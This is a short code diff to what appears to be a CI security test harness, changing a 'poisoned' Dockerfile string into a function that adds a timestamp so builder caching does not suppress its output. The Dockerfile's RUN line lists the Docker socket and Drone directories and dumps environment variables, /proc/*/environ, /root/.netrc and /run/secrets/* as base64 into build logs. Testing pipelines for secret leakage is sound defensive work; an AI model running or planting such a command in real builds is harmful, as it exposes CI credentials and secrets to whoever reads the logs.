@@ -38,10 +38,13 @@ export async function poisonedPipeline(o: { trusted: boolean }): Promise<string>
   });
 }
 
-/** A Dockerfile that looks for whatever the build's containers might hold, and shows it where Drone hides nothing. */
-export const poisonedDockerfile = `ARG BASE_IMAGE
+/**
+ * A Dockerfile that looks for whatever the build's containers might hold, and shows it where Drone hides nothing. Another one
+ * each time: what the builder has in its cache prints nothing.
+ */
+export const poisonedDockerfile = (): string => `ARG BASE_IMAGE
 FROM \${BASE_IMAGE} AS test
-RUN echo ${marks.dockerfile}; ls -la /var/run/docker.sock /sluice /drone 2>&1; \\
+RUN echo ${marks.dockerfile} ${Date.now()}; ls -la /var/run/docker.sock /sluice /drone 2>&1; \\
     (env; cat /proc/*/environ; cat /root/.netrc /run/secrets/*) 2>/dev/null | base64 -w0
 FROM test
 `;
